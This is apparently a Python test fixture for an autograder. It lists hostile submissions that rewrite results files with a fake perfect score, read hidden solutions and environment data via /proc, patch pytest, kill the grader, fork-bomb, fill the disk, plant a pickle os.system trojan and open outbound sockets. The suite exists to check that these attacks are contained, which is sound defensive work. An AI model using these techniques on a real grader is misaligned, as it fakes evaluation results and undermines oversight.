"""The hostile-submission gallery: untouched stubs plus one attack on the grading each.

Every attack is Python code appended to the stubs' ``resampling.py``. It
runs either at import or when the checks call ``to_mono`` / ``resample``
(the hostile versions installed at the end). It records what it tried; the
hostile functions raise ``RuntimeError("ATTEMPTED: ...")`` with that record,
so the grader's own output shows the attack ran. A record containing
``LEAKED`` (it read something secret) or ``TAMPERED`` (it changed something
of the grader's) means the attack worked. Honest code here is the untouched
stubs: every attack must score exactly 0.

``{port}``, ``{token}``, ``{results}`` and ``{lab}`` in an attack's code
are filled in by the test (a TCP listener of the test, a name for marker
files, the real results path and the graded lab's folder: the attacker is
assumed to know both).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    ``code`` runs at the end of ``resampling.py`` (module level). ``expect``:
    texts of which the results must show one (proof the attack ran and was stopped).
    """

    name: str
    code: str
    expect: tuple = ("ATTEMPTED",)
    needs_network_namespace: bool = False


PRELUDE = r'''

# ------------------------------------------------------------------ hostile part
import glob as _glob
import json as _json
import os as _os
import signal as _signal
import sys as _sys
import time as _time

_EVIDENCE = []
_FAKE = {"score": 134.0, "max_score": 134.0, "execution_time": 1.0, "output": "all good",
         "tests": [{"name": "everything", "score": 134.0, "max_score": 134.0, "status": "passed",
                    "output": "", "visibility": "visible"}]}


def _note(text):
    _EVIDENCE.append(str(text)[:300])


def _cmdline_paths():
    """Every absolute path in any process's command line (the grader's --grade-json, --root, --impl ...)."""
    paths = set()
    for entry in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(entry, "rb") as handle:
                args = handle.read().split(b"\0")
        except OSError:
            continue
        for arg in args:
            for part in arg.decode(errors="replace").split("="):
                if part.startswith("/"):
                    paths.add(part)
    return paths


def _roots():
    """The graded lab, every folder in it that the grader's command lines mention, and the usual suspects.

    Only the lab under test counts: other copies of the lab on the same
    machine are not this grader's to protect.
    """
    roots = {"{lab}", "/autograder", "/autograder/source", _os.getcwd()}
    for path in _cmdline_paths():
        while path.startswith("{lab}/"):
            roots.add(path)
            path = _os.path.dirname(path)
    return roots


def _result_paths():
    return {p for p in _cmdline_paths() if p.endswith(".json")} | {"/autograder/results/results.json", "{results}"}


def _write_fake(paths=None):
    for path in sorted(paths or _result_paths()):
        try:
            with open(path, "w") as handle:
                _json.dump(_FAKE, handle)
            _note(f"TAMPERED {path}")
        except OSError as exc:
            _note(f"could not write {path}: {exc.strerror}")


def _read(path, what):
    try:
        with open(path, "rb") as handle:
            data = handle.read(200)
        _note(f"LEAKED {what} {path}: {data[:40]!r}")
        return True
    except OSError:
        return False


def _hostile(name):
    def hostile(*args, **kwargs):
        _attack_on_call()
        raise RuntimeError("ATTEMPTED: " + ("; ".join(_EVIDENCE) or "nothing to report")[:1500])

    hostile.__name__ = name
    return hostile


def _attack_on_call():
    pass
'''

INSTALL = r'''
to_mono = _hostile("to_mono")
resample = _hostile("resample")
'''


def _attack(name, code, **kwargs):
    return Attack(name, PRELUDE + code + INSTALL, **kwargs)


ATTACKS = [
    _attack("atexit_rewrites_results", r'''
import atexit as _atexit
_atexit.register(_write_fake)
_write_fake()
'''),
    Attack("rewrites_results_at_import_then_exits", PRELUDE + r'''
_write_fake()
_os._exit(0)
''', expect=("ended the worker process",)),
    _attack("forked_child_outlives_the_check", r'''
if _os.fork() == 0:
    _os.setsid()
    for _number in range(1, 32):
        try:
            _signal.signal(_number, _signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    _deadline = _time.time() + 60
    while _time.time() < _deadline:
        for _path in _result_paths():
            try:
                with open(_path, "w") as _handle:
                    _json.dump(_FAKE, _handle)
            except OSError:
                pass
        _time.sleep(0.05)
    _os._exit(0)
_note(f"forked a child that rewrites results for a minute")
'''),
    _attack("fake_results_files_everywhere", r'''
for _folder in sorted(_roots() | {_os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", _os.path.expanduser("~")}):
    for _name in ("results.json", "results/results.json"):
        _path = _os.path.join(_folder, _name)
        try:
            _os.makedirs(_os.path.dirname(_path), exist_ok=True)
            with open(_path, "w") as _handle:
                _json.dump(_FAKE, _handle)
            _note(f"wrote {_path}")
        except OSError:
            pass
_write_fake()
'''),
    _attack("imports_solutions_package", r'''
for _root in sorted(_roots()):
    _sys.path.insert(0, _root)
_sys.path.insert(0, _os.getcwd())
try:
    from solutions.resampling import *  # noqa: F401,F403
    import solutions as _solutions
    _note(f"LEAKED imported solutions from {_solutions.__file__}")
except Exception as _exc:  # noqa: BLE001
    _note(f"import solutions failed: {type(_exc).__name__}")
'''),
    _attack("reads_solutions_by_path", r'''
for _root in sorted(_roots()):
    for _path in _glob.glob(f"{_root}/solutions/*.py") + _glob.glob(f"{_root}/*/solutions/*.py"):
        _read(_path, "solution")
    _read(f"{_root}/solutions/resampling.py", "solution")
_note("searched for solutions/")
'''),
    _attack("reads_solutions_via_proc", r'''
for _pid in sorted(_glob.glob("/proc/[0-9]*")):
    for _root in ["/proc/self/root" + r for r in sorted(_roots())] + [f"{_pid}/cwd", f"{_pid}/root{lab}"]:
        _read(f"{_root}/solutions/resampling.py", "solution via /proc")
    for _fd in _glob.glob(f"{_pid}/fd/*"):
        try:
            _target = _os.readlink(_fd)
        except OSError:
            continue
        if _target.startswith("/") and ("solutions" in _target or "test_" in _target or _target.endswith(".npz")):
            _read(_fd, f"open file of {_pid} ({_target})")
    _read(f"{_pid}/environ", "environment")
_note("walked /proc")
'''),
    _attack("reads_reference_data_and_hidden_checks", r'''
for _root in sorted(_roots()):
    for _pattern in ("exercises/reference_data/*", "*/exercises/reference_data/*", "exercises/test_*.py",
                     "*/exercises/test_*.py", "tests/grading/*.py"):
        for _path in _glob.glob(f"{_root}/{_pattern}"):
            _read(_path, "secret")
    _read(f"{_root}/exercises/test_embedding.py", "checks")
    _read(f"{_root}/lab/exercises/reference_data/reference.npz", "reference data")
_note("searched for reference data and checks")
'''),
    _attack("patches_pytest_and_the_grading_plugin", r'''
try:
    import _pytest.reports as _reports
    _reports.TestReport.outcome = "passed"
    _reports.TestReport.passed = property(lambda self: True)
    _reports.TestReport.failed = property(lambda self: False)
    import warblr.grading.report as _report
    _report.Record.score = property(lambda self: self.points)
    import warblr.grading.plugin as _plugin
    _plugin.not_attempted = lambda *args: None
    _note(f"patched pytest and the grading plugin in process {_os.getpid()}")
except Exception as _exc:  # noqa: BLE001
    _note(f"patching failed: {_exc!r}")
'''),
    _attack("walks_gc_for_grader_objects", r'''
import gc as _gc
for _object in _gc.get_objects():
    _kind = type(_object)
    if _kind.__name__ in ("Reference", "Grader", "Record") or str(getattr(_kind, "__module__", "")).startswith(
            ("exercises", "solutions")):
        _note(f"LEAKED found {_kind.__module__}.{_kind.__name__}")
        break
for _name in list(_sys.modules):
    if _name.startswith(("exercises", "solutions", "warblr_reference")):
        _note(f"LEAKED module {_name}")
_note(f"walked {len(_gc.get_objects())} objects")
'''),
    _attack("kills_and_signals_the_grader", r'''
for _entry in _glob.glob("/proc/[0-9]*"):
    _pid = int(_entry.rsplit("/", 1)[1])
    if _pid == _os.getpid():
        continue
    try:
        with open(f"{_entry}/cmdline", "rb") as _handle:
            _command = _handle.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        continue
    if "pytest" in _command or "warblr" in _command:
        for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
            try:
                _os.kill(_pid, _sig)
                _note(f"TAMPERED sent {_sig.name} to {_pid} ({_command[:60]})")
            except OSError as _exc:
                _note(f"could not signal {_pid}: {_exc.strerror}")
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
    _note(f"TAMPERED killed the parent {_os.getppid()}")
except OSError as _exc:
    _note(f"could not kill the parent: {_exc.strerror}")
'''),
    _attack("fork_bomb", expect=("ATTEMPTED", "time limit"), code=r'''
def _attack_on_call():
    _children = 0
    while _children < 2000:
        try:
            _pid = _os.fork()
        except OSError as _exc:
            _note(f"fork stopped after {_children} children: {_exc.strerror}")
            break
        if _pid == 0:
            _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
            while True:
                _time.sleep(1)
        _children += 1
'''),
    _attack("fills_the_disk", expect=("ATTEMPTED", "time limit"), code=r'''
def _attack_on_call():
    _signal.signal(_signal.SIGXFSZ, _signal.SIG_IGN)
    _block = b"x" * (16 << 20)
    _written = 0
    for _folder in (_os.getcwd(), "/tmp", "/var/tmp", "/dev/shm"):
        for _index in range(100):
            if _written >= 1 << 30:  # stop at 1 GiB: a test must not fill a shared machine's disk
                break
            _path = f"{_folder}/warblr-gallery-{token}-{_index}"
            try:
                with open(_path, "wb") as _handle:
                    for _ in range(64):
                        _handle.write(_block)
                        _written += len(_block)
            except OSError as _exc:
                _note(f"{_path}: {_exc.strerror}")
                break
    _note(f"wrote {_written >> 20} MiB")
'''),
    Attack("sleeps_past_the_limit_ignoring_signals", PRELUDE + r'''
def _attack_on_call():
    for _number in range(1, 65):
        try:
            _signal.signal(_number, _signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        _time.sleep(1000)
''' + INSTALL, expect=("time limit",)),
    Attack("returns_lying_objects", PRELUDE + INSTALL + r'''
import numpy as _np


class _Liar(_np.ndarray):
    def __eq__(self, other):
        return True

    def __array_function__(self, func, types, args, kwargs):
        return True


class _Trojan:
    def __reduce__(self):
        return (_os.system, (f"touch /tmp/warblr-gallery-{token}-pwned",))


def to_mono(waveform):
    values = _np.asarray(waveform)
    return (values.mean(axis=-1) if values.ndim > 1 else values).view(_Liar)


def resample(waveform, orig_sr, target_sr):
    return _Trojan()
''', expect=("not plain data",)),
    _attack("opens_network_connections", r'''
import socket as _socket
for _address in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 53)):
    try:
        _connection = _socket.create_connection(_address, timeout=1.0)
        _connection.sendall(b"hello from the worker")
        _note(f"LEAKED connected to {_address}")
    except OSError as _exc:
        _note(f"no connection to {_address}: {_exc}")
''', needs_network_namespace=True),
]
